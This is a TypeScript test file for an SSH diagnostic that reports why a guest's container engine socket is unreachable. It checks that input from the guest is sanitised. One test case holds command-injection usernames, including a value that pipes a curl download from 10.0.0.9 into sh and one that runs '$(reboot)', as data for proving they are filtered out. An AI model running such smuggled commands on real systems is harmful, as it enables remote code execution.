import { execFile, spawn } from 'node:child_process'
import { once } from 'node:events'
import { mkdirSync, mkdtempSync, rmSync } from 'node:fs'
import { createServer } from 'node:net'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { promisify } from 'node:util'
import { expect, test } from 'vitest'
import { diagnosticCommand, forSh, parseReport } from '../../../src/transports/ssh/diagnose.ts'
import { engineRefusal } from '../../../src/transports/ssh/engine-refusal.ts'

const where = { vmUuid: 'vm', address: '10.0.0.1', port: 22, username: 'core', socketPath: undefined }
const verdict = (...lines: string[]) =>
  engineRefusal(parseReport(['xsc:user:core', ...lines.map((line) => `xsc:${line}`), 'xsc:end:'].join('\n')), where)

test.each([
  [['socket:missing:unknown:/var/run/docker.sock'], 'no-engine'],
  [[], 'no-engine'],
  [['socket:denied:yes:/var/run/docker.sock'], 'socket-permission'],
  [
    ['socket:missing:unknown:/var/run/docker.sock', 'socket:hidden:unknown:/run/podman/podman.sock'],
    'socket-permission',
  ],
  [['socket:not-a-socket:unknown:/var/run/docker.sock'], 'not-a-socket'],
  [['socket:ok:no:/var/run/docker.sock'], 'socket-dead'],
  [['socket:ok:yes:/var/run/docker.sock'], 'no-forwarding'],
  [['socket:ok:yes:/var/run/docker.sock', 'tool:docker', 'tool:nc'], 'no-forwarding'],
  // somebody in a container on the guest's network listens on a socket of that name, the engine does not
  [['socket:ok:yes:/var/run/docker.sock', 'tool:socat'], 'socket-dead'],
  [['socket:ok:yes:/var/run/docker.sock', 'tool:ncat', 'tool:docker'], 'socket-dead'],
  // without /proc/net/unix a helper that did not get through is the better witness
  [['socket:ok:unknown:/var/run/docker.sock', 'tool:socat'], 'socket-dead'],
  [['socket:ok:unknown:/var/run/docker.sock'], 'no-forwarding'],
  // an engine closed to the user is a better lead than the remains of another
  [['socket:ok:no:/run/user/1/docker.sock', 'socket:denied:yes:/var/run/docker.sock'], 'socket-permission'],
])('%j is %s', (lines, kind) => expect(verdict(...lines).diagnosis.kind).toBe(kind))

test('the texts name guest, user, socket, and a cure to type', () => {
  const error = verdict('socket:denied:yes:/var/run/docker.sock')
  expect(error.diagnosis.cause).toBe(
    "User core may not use the engine's socket /var/run/docker.sock in the guest at 10.0.0.1",
  )
  expect(error.diagnosis.cure).toContain('usermod -aG docker core')
  const podman = verdict('socket:denied:yes:/run/podman/podman.sock')
  expect(podman.diagnosis.cure).toContain('systemctl --user enable --now podman.socket')
})

test('what a guest makes up is left out of a report', () => {
  const report = parseReport(
    [
      'xsc:user:core\x1b[31m',
      'xsc:socket:ok:yes:relative.sock',
      `xsc:socket:ok:yes:/${'x'.repeat(200)}`,
      'xsc:socket:great:yes:/run/a.sock',
      'xsc:socket:ok:yes:/run/b.sock',
      'xsc:socket:denied:yes:/run/b.sock',
      'xsc:tool:rm',
      'socket:ok:yes:/run/c.sock',
    ].join('\r\n'),
  )
  expect([...report.sockets]).toEqual([['/run/b.sock', { state: 'ok', listening: true }]])
  expect([...report.tools]).toEqual([])
  expect(engineRefusal(report, where).message).toMatch(/^[\x20-\x7e]*$/)
})

test('a guest that makes up hundreds of sockets has a few of them looked at', () => {
  const many = Array.from({ length: 500 }, (_, i) => `xsc:socket:ok:yes:/run/${i}.sock`)
  expect(parseReport([...many, 'xsc:end:'].join('\n')).sockets.size).toBeLessThanOrEqual(16)
})

test.each([
  ['core; curl http://10.0.0.9/x | sh #', 'core'],
  ['$(reboot)', 'core'],
  ['a user with blanks', 'core'],
  ['admin', 'admin'],
  ['EXAMPLE\\admin', 'EXAMPLE\\admin'],
  ['admin@example.com', 'admin@example.com'],
])('the user that the guest names, %j, stands in a command only if it is a name', (named, shown) => {
  const report = parseReport(`xsc:user:${named}\nxsc:socket:denied:yes:/var/run/docker.sock\nxsc:end:`)
  expect(engineRefusal(report, where).diagnosis.cure).toContain(`usermod -aG docker ${shown} (or`)
})

test('a socket whose engine died is not taken for the one of another folder with the same ending', async () => {
  const folder = mkdtempSync(join(tmpdir(), 'xsc-'))
  const dead = join(folder, 'e.sock')
  const twin = join(folder, dead)
  mkdirSync(dirname(twin), { recursive: true })
  const listen = `require('net').createServer().listen(process.argv[1], () => console.log('up'))`
  const engine = spawn(process.execPath, ['-e', listen, dead], { stdio: ['ignore', 'pipe', 'inherit'] })
  const other = createServer().listen(twin)
  const stateOf = async () => {
    const { stdout } = await promisify(execFile)('sh', ['-c', diagnosticCommand([dead], false)])
    return parseReport(stdout).sockets.get(dead)
  }
  try {
    await once(engine.stdout, 'data')
    expect(await stateOf()).toEqual({ state: 'ok', listening: true })
    engine.kill('SIGKILL')
    await once(engine, 'close')
    expect(await stateOf()).toEqual({ state: 'ok', listening: false })
  } finally {
    engine.kill('SIGKILL')
    other.close()
    rmSync(folder, { recursive: true })
  }
})

test.each(["it's", 'a\\b', 'wow!', 'two\nlines'])(
  'a script that some shell would change is not let through: %j',
  (script) => {
    expect(() => forSh(script)).toThrow('quote')
  },
)
